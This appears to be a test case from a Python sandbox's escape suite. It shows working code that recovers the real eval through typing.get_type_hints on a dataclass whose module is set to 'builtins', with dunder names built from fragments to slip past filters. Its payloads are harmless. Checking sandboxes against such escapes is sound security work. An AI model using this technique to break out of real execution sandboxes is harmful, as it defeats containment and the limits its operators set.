# technique: typing.get_type_hints of a class whose module is 'builtins' (make_dataclass with __module__ in its namespace; a user class's module is builtins anyway) with the string annotation 'eval': get_type_hints evaluates it with builtins.__dict__ as the locals, which the sink left as they were -> the real eval
# configs: default, common
# With nothing allowed `import typing` is refused.
import dataclasses
import typing
u = '_' * 2
C = dataclasses.make_dataclass('C', [('f', 'eval')], namespace={u + 'module' + u: 'builtins'})
real_eval = typing.get_type_hints(C)['f']
return [{'json': {'escaped': [real_eval('6 * 7'), real_eval('().' + u + 'class' + u + '.' + u + 'name' + u)]}}]
